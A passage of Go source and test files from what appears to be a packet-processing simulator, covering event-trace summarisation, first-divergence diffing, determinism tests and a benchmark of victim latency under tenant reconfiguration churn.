				t.Errorf("empty reconfig plan perturbed the golden run:\n  got  %s (%d events)\n  want %s (%d events)",
					tr.Digest(), tr.Total(), g.Digest, g.Total)
			}
		})
	}
}

// TestGoldenRunsAreDeterministic re-executes one case and requires a
// bit-identical stream — the dynamic counterpart of cmd/nbalint's static
// determinism rules.
func TestGoldenRunsAreDeterministic(t *testing.T) {
	a := runTraced(t, goldenSpec("ipv4", "fixed=0.8"))
	b := runTraced(t, goldenSpec("ipv4", "fixed=0.8"))
	if a.Digest() != b.Digest() {
		d := trace.Diff(a.Events(), b.Events())
		t.Fatalf("same config+seed diverged: %v", d)
	}
}

// TestCostChangeBreaksGolden verifies the suite's sensitivity: flipping one
// element's cycle cost must change the digest and produce a first-divergence
// report naming that element.
func TestCostChangeBreaksGolden(t *testing.T) {
	base := runTraced(t, goldenSpec("ipv4", "cpu"))

	cm := sysinfo.Default()
	ec := cm.Elements["IPLookup"]
	ec.Fixed++ // one cycle more per batch
	cm.Elements["IPLookup"] = ec
	spec := goldenSpec("ipv4", "cpu")
	spec.CostModel = cm
	mod := runTraced(t, spec)

	if base.Digest() == mod.Digest() {
		t.Fatal("digest insensitive to a +1 cycle element cost change")
	}
	d := trace.Diff(base.Events(), mod.Events())
	if d == nil {
		t.Fatal("digests differ but event streams compare equal")
	}
	if d.A == nil || !strings.Contains(d.A.Name, "IPLookup") {
		t.Fatalf("first divergence should land on the changed element, got: %v", d)
	}
	t.Logf("first divergence: %v", d)
}
