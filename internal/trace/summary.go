package trace

import (
	"fmt"
	"io"
	"math"
	"sort"

	"nba/internal/simtime"
	"nba/internal/stats"
)

// ElementProfile is the per-element virtual-time profile accumulated from
// batch events.
type ElementProfile struct {
	Name       string
	Batches    uint64
	Packets    uint64
	Cycles     uint64
	BatchSizes stats.Quantiles
}

// QueueProfile aggregates RX-queue events per (port, queue).
type QueueProfile struct {
	Port      int32
	Queue     int64
	Polls     uint64
	Delivered uint64
	Dropped   uint64
	Backlogs  stats.Quantiles
}

// DeviceProfile aggregates GPU command-queue phases per device.
type DeviceProfile struct {
	Name       string
	Tasks      uint64
	Packets    uint64
	CopyH2D    simtime.Time
	Kernel     simtime.Time
	CopyD2H    simtime.Time
	SubmitLags stats.Quantiles // device backlog (ps) observed at submission
}

// LBProfile aggregates load-balancer control steps per socket.
type LBProfile struct {
	Socket  int32
	Updates uint64
	FinalW  float64
}

// ShedProfile aggregates overload-control sheds per (worker, mechanism).
type ShedProfile struct {
	Worker    int32
	Mechanism string // "codel" or "admission"
	Events    uint64
	Packets   uint64
}

// levelName renders a governor degradation level carried in an event payload
// (trace cannot import internal/overload, so the mapping is mirrored here).
func levelName(l int64) string {
	switch l {
	case 0:
		return "normal"
	case 1:
		return "trim"
	case 2:
		return "bias"
	case 3:
		return "shed"
	default:
		return fmt.Sprintf("level(%d)", l)
	}
}

// OverloadProfile aggregates governor activity per socket.
type OverloadProfile struct {
	Socket      int32
	Transitions uint64
	PeakLevel   int64
	FinalLevel  int64
	BiasUpdates uint64
}

// ReconfigEpoch is one runtime-reconfiguration epoch reconstructed from its
// begin/drain/commit events.
type ReconfigEpoch struct {
	Epoch    int64
	Kind     string       // reconfig event kind (tenant.admit, device.unplug, ...)
	Target   int64        // tenant index, device or port (kind-dependent)
	Begin    simtime.Time // when the epoch opened (quiesce instant)
	Drain    simtime.Time // drain-phase duration
	Rescued  int64        // tasks/aggregates force-rescued via CPU fallback
	Forced   bool         // drain hit the DrainGrace deadline
	Reseated int64        // lanes / controllers / rings re-seated at commit
}

// IntegrityProfile aggregates sentinel re-execution activity per device.
type IntegrityProfile struct {
	Device      string
	Checks      uint64 // sentinel comparisons against this device
	Mismatches  uint64 // digest disagreements
	Quarantined uint64 // packets discarded on mismatch
	Demotions   uint64 // ALB weight-bound ratchets
	FailStops   uint64 // devices taken out of service
	Readmits    uint64 // recovery-probe re-admissions
	LastScore   float64
}

// Summary is the aggregate view of an event stream.
type Summary struct {
	Events      uint64
	Dispatch    uint64
	Elements    []*ElementProfile
	Queues      []*QueueProfile
	Devices     []*DeviceProfile
	Balancers   []*LBProfile
	Sheds       []*ShedProfile
	Overloads   []*OverloadProfile
	Reconfigs   []*ReconfigEpoch
	Integrities []*IntegrityProfile
}

// Summarize folds an event stream into per-element / per-queue / per-device
// profiles. Output ordering is deterministic (sorted by name or id).
func Summarize(events []Event) *Summary {
	s := &Summary{Events: uint64(len(events))}
	elems := map[string]*ElementProfile{}
	queues := map[[2]int64]*QueueProfile{}
	devs := map[string]*DeviceProfile{}
	lbs := map[int32]*LBProfile{}
	sheds := map[[2]int64]*ShedProfile{}
	ovls := map[int32]*OverloadProfile{}
	ints := map[string]*IntegrityProfile{}
	integ := func(name string) *IntegrityProfile {
		ip := ints[name]
		if ip == nil {
			ip = &IntegrityProfile{Device: name}
			ints[name] = ip
		}
		return ip
	}
	epochs := map[int64]*ReconfigEpoch{}
	epoch := func(n int64) *ReconfigEpoch {
		re := epochs[n]
		if re == nil {
			re = &ReconfigEpoch{Epoch: n}
			epochs[n] = re
		}
		return re
	}
	mechIdx := func(name string) int64 {
		if name == "admission" {
			return 1
		}
		return 0
	}
	ovl := func(actor int32) *OverloadProfile {
		op := ovls[actor]
		if op == nil {
			op = &OverloadProfile{Socket: actor}
			ovls[actor] = op
		}
		return op
	}

	for i := range events {
		ev := &events[i]
		switch ev.Kind {
		case KindDispatch:
			s.Dispatch++
		case KindBatch:
			ep := elems[ev.Name]
			if ep == nil {
				ep = &ElementProfile{Name: ev.Name}
				elems[ev.Name] = ep
			}
			ep.Batches++
			ep.Packets += uint64(ev.A)
			ep.Cycles += uint64(ev.B)
			ep.BatchSizes.Add(ev.A)
		case KindRx:
			qp := rxQueue(queues, ev)
			qp.Polls++
			qp.Delivered += uint64(ev.B)
			qp.Backlogs.Add(ev.C)
		case KindRxDrop:
			qp := rxQueue(queues, ev)
			qp.Dropped += uint64(ev.B)
		case KindGPUSubmit:
			dp := devs[ev.Name]
			if dp == nil {
				dp = &DeviceProfile{Name: ev.Name}
				devs[ev.Name] = dp
			}
			dp.Tasks++
			dp.Packets += uint64(ev.B)
			dp.SubmitLags.Add(ev.C)
		case KindGPUCopyH2D:
			if dp := devs[ev.Name]; dp != nil {
				dp.CopyH2D += ev.At - simtime.Time(ev.C)
			}
		case KindGPUKernel:
			if dp := devs[ev.Name]; dp != nil {
				dp.Kernel += ev.At - simtime.Time(ev.C)
			}
		case KindGPUCopyD2H:
			if dp := devs[ev.Name]; dp != nil {
				dp.CopyD2H += ev.At - simtime.Time(ev.C)
			}
		case KindLBUpdate:
			lp := lbs[ev.Actor]
			if lp == nil {
				lp = &LBProfile{Socket: ev.Actor}
				lbs[ev.Actor] = lp
			}
			lp.Updates++
			lp.FinalW = math.Float64frombits(uint64(ev.A))
		case KindOverloadShed:
			key := [2]int64{int64(ev.Actor), mechIdx(ev.Name)}
			sp := sheds[key]
			if sp == nil {
				sp = &ShedProfile{Worker: ev.Actor, Mechanism: ev.Name}
				sheds[key] = sp
			}
			sp.Events++
			sp.Packets += uint64(ev.A)
		case KindOverloadLevel:
			op := ovl(ev.Actor)
			op.Transitions++
			op.FinalLevel = ev.A
			if ev.A > op.PeakLevel {
				op.PeakLevel = ev.A
			}
		case KindOverloadBias:
			ovl(ev.Actor).BiasUpdates++
		case KindReconfigBegin:
			re := epoch(ev.A)
			re.Kind = ev.Name
			re.Target = ev.C
			re.Begin = ev.At
		case KindReconfigDrain:
			re := epoch(ev.A)
			re.Drain = simtime.Time(ev.B)
			re.Rescued = ev.C
			re.Forced = ev.D != 0
		case KindReconfigCommit:
			re := epoch(ev.A)
			re.Kind = ev.Name
			re.Target = ev.C
			re.Reseated = ev.D
		case KindIntegrityCheck:
			integ(ev.Name).Checks++
		case KindIntegrityMismatch:
			ip := integ(ev.Name)
			ip.Mismatches++
			ip.LastScore = math.Float64frombits(uint64(ev.C))
		case KindIntegrityQuarantine:
			integ(ev.Name).Quarantined += uint64(ev.B)
		case KindIntegrityDemote:
			ip := integ(ev.Name)
			switch ev.A {
			case 0:
				ip.Demotions++
			case 1:
				ip.FailStops++
			case 2:
				ip.Readmits++
			}
			ip.LastScore = math.Float64frombits(uint64(ev.B))
		}
	}

	for _, name := range stats.SortedKeys(elems) {
		s.Elements = append(s.Elements, elems[name])
	}
	qkeys := make([][2]int64, 0, len(queues))
	for k := range queues {
		qkeys = append(qkeys, k)
	}
	sort.Slice(qkeys, func(i, j int) bool {
		if qkeys[i][0] != qkeys[j][0] {
			return qkeys[i][0] < qkeys[j][0]
		}
		return qkeys[i][1] < qkeys[j][1]
	})
	for _, k := range qkeys {
		s.Queues = append(s.Queues, queues[k])
	}
	for _, name := range stats.SortedKeys(devs) {
		s.Devices = append(s.Devices, devs[name])
	}
	skeys := make([]int, 0, len(lbs))
	for k := range lbs {
		skeys = append(skeys, int(k))
	}
	sort.Ints(skeys)
	for _, k := range skeys {
		s.Balancers = append(s.Balancers, lbs[int32(k)])
	}
	shkeys := make([][2]int64, 0, len(sheds))
	for k := range sheds {
		shkeys = append(shkeys, k)
	}
	sort.Slice(shkeys, func(i, j int) bool {
		if shkeys[i][0] != shkeys[j][0] {
			return shkeys[i][0] < shkeys[j][0]
		}
		return shkeys[i][1] < shkeys[j][1]
	})
	for _, k := range shkeys {
		s.Sheds = append(s.Sheds, sheds[k])
	}
	okeys := make([]int, 0, len(ovls))
	for k := range ovls {
		okeys = append(okeys, int(k))
	}
	sort.Ints(okeys)
	for _, k := range okeys {
		s.Overloads = append(s.Overloads, ovls[int32(k)])
	}
	ekeys := make([]int64, 0, len(epochs))
	for k := range epochs {
		ekeys = append(ekeys, k)
	}
	sort.Slice(ekeys, func(i, j int) bool { return ekeys[i] < ekeys[j] })
	for _, k := range ekeys {
		s.Reconfigs = append(s.Reconfigs, epochs[k])
	}
	for _, name := range stats.SortedKeys(ints) {
		s.Integrities = append(s.Integrities, ints[name])
	}
	return s
}

func rxQueue(m map[[2]int64]*QueueProfile, ev *Event) *QueueProfile {
	key := [2]int64{int64(ev.Actor), ev.A}
	qp := m[key]
	if qp == nil {
		qp = &QueueProfile{Port: ev.Actor, Queue: ev.A}
		m[key] = qp
	}
	return qp
}

// Write renders the summary as a human-readable report.
func (s *Summary) Write(w io.Writer) error {
	if _, err := fmt.Fprintf(w, "events: %d (dispatch %d)\n", s.Events, s.Dispatch); err != nil {
		return err
	}
	if len(s.Elements) > 0 {
		fmt.Fprintf(w, "\nelements:\n")
		fmt.Fprintf(w, "  %-28s %10s %12s %14s %8s %8s %8s\n",
			"name", "batches", "packets", "cycles", "b.p50", "b.p99", "b.max")
		for _, e := range s.Elements {
			fmt.Fprintf(w, "  %-28s %10d %12d %14d %8d %8d %8d\n",
				e.Name, e.Batches, e.Packets, e.Cycles,
				e.BatchSizes.Percentile(50), e.BatchSizes.Percentile(99), e.BatchSizes.Max())
		}
	}
	if len(s.Queues) > 0 {
		fmt.Fprintf(w, "\nrx queues:\n")
		fmt.Fprintf(w, "  %-12s %10s %12s %10s %8s %8s %8s\n",
			"port/queue", "polls", "delivered", "dropped", "q.p50", "q.p99", "q.max")
		for _, q := range s.Queues {
			fmt.Fprintf(w, "  %-12s %10d %12d %10d %8d %8d %8d\n",
				fmt.Sprintf("%d/%d", q.Port, q.Queue), q.Polls, q.Delivered, q.Dropped,
				q.Backlogs.Percentile(50), q.Backlogs.Percentile(99), q.Backlogs.Max())
		}
	}
	if len(s.Devices) > 0 {
		fmt.Fprintf(w, "\ndevices:\n")
		fmt.Fprintf(w, "  %-16s %8s %12s %14s %14s %14s\n",
			"name", "tasks", "packets", "h2d", "kernel", "d2h")
		for _, d := range s.Devices {
			fmt.Fprintf(w, "  %-16s %8d %12d %14v %14v %14v\n",
				d.Name, d.Tasks, d.Packets, d.CopyH2D, d.Kernel, d.CopyD2H)
		}
	}
	if len(s.Balancers) > 0 {
		fmt.Fprintf(w, "\nload balancers:\n")
		for _, b := range s.Balancers {
			fmt.Fprintf(w, "  socket %d: %d updates, final W=%.4f\n", b.Socket, b.Updates, b.FinalW)
		}
	}
	if len(s.Sheds) > 0 {
		fmt.Fprintf(w, "\noverload sheds:\n")
		fmt.Fprintf(w, "  %-18s %10s %12s\n", "worker/mechanism", "events", "packets")
		for _, sp := range s.Sheds {
			fmt.Fprintf(w, "  %-18s %10d %12d\n",
				fmt.Sprintf("%d/%s", sp.Worker, sp.Mechanism), sp.Events, sp.Packets)
		}
	}
	if len(s.Overloads) > 0 {
		fmt.Fprintf(w, "\noverload governors:\n")
		for _, o := range s.Overloads {
			fmt.Fprintf(w, "  socket %d: %d level transitions, peak %s, final %s, %d bias updates\n",
				o.Socket, o.Transitions, levelName(o.PeakLevel), levelName(o.FinalLevel), o.BiasUpdates)
		}
	}
	if len(s.Reconfigs) > 0 {
		fmt.Fprintf(w, "\nreconfig epochs:\n")
		fmt.Fprintf(w, "  %-6s %-16s %7s %14s %14s %8s %7s %9s\n",
			"epoch", "kind", "target", "begin", "drain", "rescued", "forced", "reseated")
		for _, r := range s.Reconfigs {
			forced := "-"
			if r.Forced {
				forced = "yes"
			}
			fmt.Fprintf(w, "  %-6d %-16s %7d %14v %14v %8d %7s %9d\n",
				r.Epoch, r.Kind, r.Target, r.Begin, r.Drain, r.Rescued, forced, r.Reseated)
		}
	}
	if len(s.Integrities) > 0 {
		fmt.Fprintf(w, "\nintegrity sentinels:\n")
		fmt.Fprintf(w, "  %-16s %8s %10s %12s %8s %9s %8s %8s\n",
			"device", "checks", "mismatch", "quarantined", "demoted", "failstop", "readmit", "score")
		for _, ip := range s.Integrities {
			fmt.Fprintf(w, "  %-16s %8d %10d %12d %8d %9d %8d %8.3f\n",
				ip.Device, ip.Checks, ip.Mismatches, ip.Quarantined,
				ip.Demotions, ip.FailStops, ip.Readmits, ip.LastScore)
		}
	}
	return nil
}
