package trace

import (
	"fmt"
	"strings"
)

// Divergence describes the first point where two event streams differ.
type Divergence struct {
	// Index is the position in the compared slices (and, for full traces,
	// the event Seq) of the first differing event.
	Index int
	// A and B are the differing events; one is nil when a stream ended
	// early.
	A, B *Event
	// Delta names the differing fields with both values.
	Delta string
}

// String renders the first-divergence report: event index, virtual
// timestamp(s) and the payload delta.
func (d *Divergence) String() string {
	if d == nil {
		return "zero divergence"
	}
	switch {
	case d.A == nil:
		return fmt.Sprintf("event %d: trace A ended, trace B continues with %s", d.Index, fmtEvent(d.B))
	case d.B == nil:
		return fmt.Sprintf("event %d: trace B ended, trace A continues with %s", d.Index, fmtEvent(d.A))
	default:
		return fmt.Sprintf("event %d: at A=%v B=%v: %s", d.Index, d.A.At, d.B.At, d.Delta)
	}
}

func fmtEvent(e *Event) string {
	return fmt.Sprintf("[%s] at=%v actor=%d name=%s a=%d b=%d c=%d d=%d",
		e.Kind, e.At, e.Actor, e.Name, e.A, e.B, e.C, e.D)
}

// Diff compares two event streams and returns the first divergence, or nil
// when the streams are identical.
func Diff(a, b []Event) *Divergence {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	for i := 0; i < n; i++ {
		if delta := eventDelta(&a[i], &b[i]); delta != "" {
			return &Divergence{Index: i, A: &a[i], B: &b[i], Delta: delta}
		}
	}
	switch {
	case len(a) < len(b):
		return &Divergence{Index: n, B: &b[n]}
	case len(b) < len(a):
		return &Divergence{Index: n, A: &a[n]}
	}
	return nil
}

// eventDelta describes the field-level difference between two events, or ""
// when they are equal.
func eventDelta(a, b *Event) string {
	var parts []string
	add := func(field string, av, bv any) {
		parts = append(parts, fmt.Sprintf("%s %v != %v", field, av, bv))
	}
	if a.Seq != b.Seq {
		add("seq", a.Seq, b.Seq)
	}
	if a.At != b.At {
		add("at", a.At, b.At)
	}
	if a.Kind != b.Kind {
		add("kind", a.Kind, b.Kind)
	}
	if a.Actor != b.Actor {
		add("actor", a.Actor, b.Actor)
	}
	if a.Tenant != b.Tenant {
		add("tenant", a.Tenant, b.Tenant)
	}
	if a.Name != b.Name {
		add("name", a.Name, b.Name)
	}
	if a.A != b.A {
		add("a", a.A, b.A)
	}
	if a.B != b.B {
		add("b", a.B, b.B)
	}
	if a.C != b.C {
		add("c", a.C, b.C)
	}
	if a.D != b.D {
		add("d", a.D, b.D)
	}
	if len(parts) == 0 {
		return ""
	}
	return fmt.Sprintf("[%s %s] %s", a.Kind, a.Name, strings.Join(parts, ", "))
}

// DiffCheckpoints locates the first checkpoint where two digest chains
// disagree. It returns the covered range (loSeq, hiSeq] of the first
// divergent window and true, or zeros and false when the chains agree over
// their common prefix.
func DiffCheckpoints(a, b []Checkpoint) (loSeq, hiSeq uint64, diverged bool) {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	var lo uint64
	for i := 0; i < n; i++ {
		if a[i].Seq != b[i].Seq || a[i].Digest != b[i].Digest {
			hi := a[i].Seq
			if b[i].Seq > hi {
				hi = b[i].Seq
			}
			return lo, hi, true
		}
		lo = a[i].Seq
	}
	return 0, 0, false
}
