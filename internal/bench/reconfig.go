package bench

import (
	"fmt"
	"io"

	"nba/internal/core"
	"nba/internal/invariant"
	"nba/internal/overload"
	"nba/internal/par"
	"nba/internal/reconfig"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

func init() {
	register(Experiment{
		ID:    "reconfig",
		Title: "Hitless reconfiguration: victim latency under tenant churn epochs",
		Paper: "Robustness extension beyond the paper: the control plane admits, retunes and evicts a co-tenant mid-run via epoch drain-and-handoff while a steady victim keeps serving; hitless means the victim's tail latency under churn stays comparable to an undisturbed run and every packet still conserves",
		Run:   runReconfig,
	})
}

// runReconfig runs an ipv4 victim twice — once undisturbed, once with an
// ipsec tenant admitted at 1/4 of the run, retuned at 1/2 and evicted at 3/4
// (reconfig.Churn) — and compares the victim's throughput and p99.9 across
// the two, with the invariant oracle (including the epoch conservation
// checks) armed on both.
func runReconfig(o Options, w io.Writer) error {
	warm, dur := o.durations(2*simtime.Millisecond, 20*simtime.Millisecond)
	span := warm + dur

	churnCfg, err := AppConfig("ipsec", "adaptive")
	if err != nil {
		return err
	}
	mkSpec := func(churn bool) (RunSpec, error) {
		ts, err := tenantsFor(1, o.Seed) // the ipv4 victim
		if err != nil {
			return RunSpec{}, err
		}
		spec := RunSpec{
			Tenants:    ts,
			OfferedBps: tenantBaseBps,
			Warmup:     warm, Duration: dur, Seed: o.Seed,
			Topology:      sysinfo.SingleSocketTopology(4, 2),
			LatencySample: 4,
			Checker:       invariant.New(),
			Overload:      overload.Defaults(),
		}
		if churn {
			spec.LatentTenants = []core.Tenant{{
				Name:        "churn",
				GraphConfig: churnCfg,
				Share:       1,
				Generator:   GeneratorFor("ipsec", 64, o.Seed+2),
			}}
			spec.Reconfig = reconfig.Churn(span, "churn")
		}
		return spec, nil
	}

	steadySpec, err := mkSpec(false)
	if err != nil {
		return err
	}
	churnSpec, err := mkSpec(true)
	if err != nil {
		return err
	}
	specs := []RunSpec{steadySpec, churnSpec}
	reps, err := par.MapErr(len(specs), o.workers(), func(i int) (*core.Report, error) {
		return Execute(specs[i])
	})
	if err != nil {
		return err
	}
	steady, churned := reps[0], reps[1]

	fmt.Fprintf(w, "ipv4 victim at %.1f Gbps per port; churn = ipsec tenant admitted at span/4, share doubled at span/2, evicted at 3*span/4\n\n",
		tenantBaseBps/1e9)
	fmt.Fprintf(w, "%-8s %-8s  victim(ipv4)                 churn(ipsec)\n", "run", "aggGbps")
	for _, r := range []struct {
		name string
		rep  *core.Report
	}{{"steady", steady}, {"churn", churned}} {
		v := r.rep.Tenants[0]
		cells := fmt.Sprintf("%.2f Gbps p99.9 %-10v", v.TxGbps, v.Latency.Percentile(99.9))
		if len(r.rep.Tenants) > 1 {
			c := r.rep.Tenants[1]
			cells += fmt.Sprintf("  %.2f Gbps in [%v, %v]", c.TxGbps, c.Admitted, c.EvictedAt)
		}
		fmt.Fprintf(w, "%-8s %-8s  %s\n", r.name, gbpsCell(r.rep.TxGbps), cells)
	}

	ct := churned.Tenants[1]
	// No tracer is attached here, so the sealed Digest is legitimately empty;
	// the digest-sealing contract is pinned by the core and chaos tests.
	ok := ct.Evicted && ct.RxDelivered == ct.TxPackets+ct.GraphDrops+ct.ShedPackets
	fmt.Fprintf(w, "\nchurned tenant sealed at evict: %s (evicted %v, conservation %d = %d+%d+%d)\n",
		passFail(ok), ct.EvictedAt, ct.RxDelivered, ct.TxPackets, ct.GraphDrops, ct.ShedPackets)

	vSteady := steady.Tenants[0].Latency.Percentile(99.9)
	vChurn := churned.Tenants[0].Latency.Percentile(99.9)
	// Hitless bound: epochs may cost the victim some tail latency (shares
	// re-split, lanes pause at quiesce), but not an order of magnitude.
	fmt.Fprintf(w, "victim p99.9: %v steady vs %v under churn (hitless: %s)\n",
		vSteady, vChurn, passFail(vChurn <= 10*vSteady))
	for i, spec := range specs {
		if n := len(spec.Checker.Violations()); n > 0 {
			fmt.Fprintf(w, "run %d: %d invariant violation(s)\n", i, n)
			for _, v := range spec.Checker.Violations() {
				fmt.Fprintf(w, "  %v\n", v)
			}
		}
	}
	return nil
}
