package bench

import (
	"bytes"
	"strings"
	"testing"

	"nba/internal/core"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

func TestRegistryComplete(t *testing.T) {
	want := []string{
		"tab1", "tab3", "fig1", "fig2", "composition", "fig9", "fig10",
		"fig11", "fig12", "fig13", "fig14",
		"ablation-datablock", "ablation-aggsize", "ablation-phi",
		"ablation-numa", "ablation-boundedlat", "alb-reconverge",
		"faults", "overload",
	}
	for _, id := range want {
		e, err := ByID(id)
		if err != nil {
			t.Errorf("missing experiment %q: %v", id, err)
			continue
		}
		if e.Title == "" || e.Paper == "" || e.Run == nil {
			t.Errorf("experiment %q incomplete: %+v", id, e)
		}
	}
	if _, err := ByID("fig99"); err == nil {
		t.Error("unknown experiment accepted")
	}
	if len(All()) < len(want) {
		t.Errorf("All() returned %d experiments, want >= %d", len(All()), len(want))
	}
}

func TestAllSorted(t *testing.T) {
	all := All()
	for i := 1; i < len(all); i++ {
		if all[i-1].ID > all[i].ID {
			t.Fatalf("All() not sorted: %q before %q", all[i-1].ID, all[i].ID)
		}
	}
}

func TestAppConfigsParseAndBuild(t *testing.T) {
	for _, app := range []string{"l2fwd", "echo", "ipv4", "ipv6", "ipsec", "ids"} {
		cfgText, err := AppConfig(app, "cpu")
		if err != nil {
			t.Fatalf("AppConfig(%s): %v", app, err)
		}
		// A short run proves the configuration builds and executes.
		spec := RunSpec{App: app, LB: "cpu", Size: 128, OfferedBps: 5e8,
			Warmup: 200 * simtime.Microsecond, Duration: simtime.Millisecond, Seed: 1}
		r, err := ExecuteConfig(cfgText, spec)
		if err != nil {
			t.Fatalf("ExecuteConfig(%s): %v", app, err)
		}
		if r.TxGbps <= 0 {
			t.Errorf("%s: zero throughput", app)
		}
	}
	if _, err := AppConfig("nope", "cpu"); err == nil {
		t.Error("unknown app accepted")
	}
}

func TestGeneratorFor(t *testing.T) {
	if g := GeneratorFor("ipv4", 0, 1); g.MeanFrameLen() < 64 || g.MeanFrameLen() > 1500 {
		t.Error("CAIDA generator mean out of range")
	}
	if g := GeneratorFor("ipv6", 128, 1); g.MeanFrameLen() != 128 {
		t.Error("ipv6 generator wrong size")
	}
	if g := GeneratorFor("ipv4", 256, 1); g.MeanFrameLen() != 256 {
		t.Error("ipv4 generator wrong size")
	}
}

func TestIPv6DstsTargetFIB(t *testing.T) {
	dsts := ipv6Dsts()
	if len(dsts) < 1000 {
		t.Fatalf("only %d IPv6 destinations", len(dsts))
	}
	// Deterministic across calls.
	if &ipv6Dsts()[0] != &dsts[0] {
		t.Error("ipv6Dsts not cached")
	}
}

func TestQuickDurations(t *testing.T) {
	o := Options{Quick: true}
	w, d := o.durations(5*simtime.Millisecond, 25*simtime.Millisecond)
	if w != simtime.Millisecond || d != 5*simtime.Millisecond {
		t.Errorf("quick durations = %v,%v", w, d)
	}
	o.Quick = false
	w, d = o.durations(5*simtime.Millisecond, 25*simtime.Millisecond)
	if w != 5*simtime.Millisecond || d != 25*simtime.Millisecond {
		t.Errorf("full durations = %v,%v", w, d)
	}
}

func TestStaticTablesRender(t *testing.T) {
	for _, id := range []string{"tab1", "tab3"} {
		e, err := ByID(id)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := e.Run(Options{}, &buf); err != nil {
			t.Fatalf("%s: %v", id, err)
		}
		out := buf.String()
		if id == "tab1" && !strings.Contains(out, "Adaptive load balancing") {
			t.Errorf("tab1 missing rows:\n%s", out)
		}
		if id == "tab3" && !strings.Contains(out, "10 GbE") {
			t.Errorf("tab3 missing hardware:\n%s", out)
		}
	}
}

func TestFaultsScenario(t *testing.T) {
	// The canonical outage scenario, scaled to a small machine for test
	// speed: the run must be bit-deterministic (the plan is part of the run
	// identity), collapse W during the outage, rescue the failed offloads on
	// the CPU without leaking, and re-climb after recovery.
	mk := func() (*core.Report, string) {
		spec, _, _ := FaultsScenario(Options{Quick: true, Seed: 42})
		spec.Topology = sysinfo.SingleSocketTopology(8, 2)
		spec.Workers = 7
		tr := trace.New(trace.Options{Capacity: 1 << 12})
		spec.Tracer = tr
		r, err := Execute(spec)
		if err != nil {
			t.Fatal(err)
		}
		return r, tr.Digest()
	}
	r1, d1 := mk()
	r2, d2 := mk()
	if d1 != d2 {
		t.Fatalf("faults scenario not deterministic: digests %s vs %s", d1, d2)
	}
	if r1.FinalW != r2.FinalW || r1.FallbackPackets != r2.FallbackPackets {
		t.Fatalf("faults scenario reports diverged: W %.3f/%.3f fallback %d/%d",
			r1.FinalW, r2.FinalW, r1.FallbackPackets, r2.FallbackPackets)
	}

	_, failAt, recoverAt := FaultsScenario(Options{Quick: true, Seed: 42})
	for _, pt := range r1.LBTrace {
		if pt.At >= failAt+10*simtime.Millisecond && pt.At < recoverAt && pt.W > 0.1 {
			t.Errorf("W = %.3f at %v during outage, want <= 0.1", pt.W, pt.At)
		}
	}
	if r1.FailedTasks == 0 || r1.FallbackPackets == 0 {
		t.Errorf("outage produced %d failed tasks, %d rescued packets",
			r1.FailedTasks, r1.FallbackPackets)
	}
	if r1.FinalW < 0.25 {
		t.Errorf("final W = %.3f, want re-climb after recovery", r1.FinalW)
	}
	if r1.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding", r1.PoolOutstanding)
	}
}

func TestCloneCostModelIsolated(t *testing.T) {
	a := cloneCostModel()
	b := cloneCostModel()
	a.MaxAggBatches = 99
	if b.MaxAggBatches == 99 {
		t.Error("cloneCostModel returned shared struct")
	}
}
