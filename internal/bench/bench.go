// Package bench is the experiment harness: one named experiment per table
// and figure of the paper's evaluation (§4), each regenerating the same
// rows/series the paper reports. cmd/nbabench and the repository-root
// benchmarks drive it.
package bench

import (
	"fmt"
	"io"
	"sort"
	"sync"
	"sync/atomic"

	"nba/internal/core"
	"nba/internal/fault"
	"nba/internal/gen"
	"nba/internal/graph"
	"nba/internal/integrity"
	"nba/internal/invariant"
	"nba/internal/netio"
	"nba/internal/overload"
	"nba/internal/packet"
	"nba/internal/reconfig"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"

	"nba/internal/apps/ipv6"

	// Register the sample applications' elements.
	_ "nba/internal/apps/ids"
	_ "nba/internal/apps/ipsec"
	_ "nba/internal/apps/ipv4"
	_ "nba/internal/lb"
)

// Options tunes experiment execution.
type Options struct {
	// Quick shrinks simulated durations for smoke runs and unit tests.
	Quick bool
	// Seed drives the run randomness.
	Seed uint64
	// Parallelism bounds how many independent grid points an experiment may
	// execute concurrently (internal/par). <= 1 runs serially; every
	// experiment's output is byte-identical at any value because grid results
	// are collected slot-indexed and printed in grid order.
	Parallelism int
}

// workers is the effective par worker count for grid sweeps.
func (o Options) workers() int {
	if o.Parallelism <= 1 {
		return 1
	}
	return o.Parallelism
}

// Experiment is one reproducible paper result.
type Experiment struct {
	ID    string
	Title string
	// Paper summarises what the paper reports for this experiment.
	Paper string
	Run   func(o Options, w io.Writer) error
}

var experiments []Experiment

func register(e Experiment) { experiments = append(experiments, e) }

// Register adds an externally-defined experiment. internal/perf uses it: the
// perf-trajectory experiment drives internal/chaos, which itself imports
// bench, so it cannot live in this package.
func Register(e Experiment) { register(e) }

// All returns every registered experiment, sorted by ID.
func All() []Experiment {
	out := append([]Experiment(nil), experiments...)
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// ByID finds one experiment.
func ByID(id string) (Experiment, error) {
	for _, e := range experiments {
		if e.ID == id {
			return e, nil
		}
	}
	return Experiment{}, fmt.Errorf("bench: unknown experiment %q (try: %s)", id, ids())
}

func ids() string {
	s := ""
	for i, e := range All() {
		if i > 0 {
			s += ", "
		}
		s += e.ID
	}
	return s
}

// --- pipeline configurations (paper Figure 8) ---

// AppConfig returns the pipeline text for a sample application. lbAlg is a
// LoadBalance parameter ("cpu", "gpu", "fixed=0.8", "adaptive"); apps
// without offloadable elements ignore it.
func AppConfig(app, lbAlg string) (string, error) {
	switch app {
	case "l2fwd":
		return `FromInput() -> L2Forward() -> ToOutput();`, nil
	case "echo":
		return `FromInput() -> EchoBack() -> ToOutput();`, nil
	case "ipv4":
		return fmt.Sprintf(`
			FromInput() -> CheckIPHeader() -> LoadBalance("%s")
				-> IPLookup("entries=65536", "seed=42") -> DecIPTTL() -> ToOutput();`, lbAlg), nil
	case "ipv6":
		return fmt.Sprintf(`
			FromInput() -> CheckIP6Header() -> LoadBalance("%s")
				-> LookupIP6Route("entries=65536", "seed=42") -> DecIP6HLIM() -> ToOutput();`, lbAlg), nil
	case "ipsec":
		return fmt.Sprintf(`
			FromInput() -> CheckIPHeader() -> IPsecESPencap("sas=1024")
				-> LoadBalance("%s")
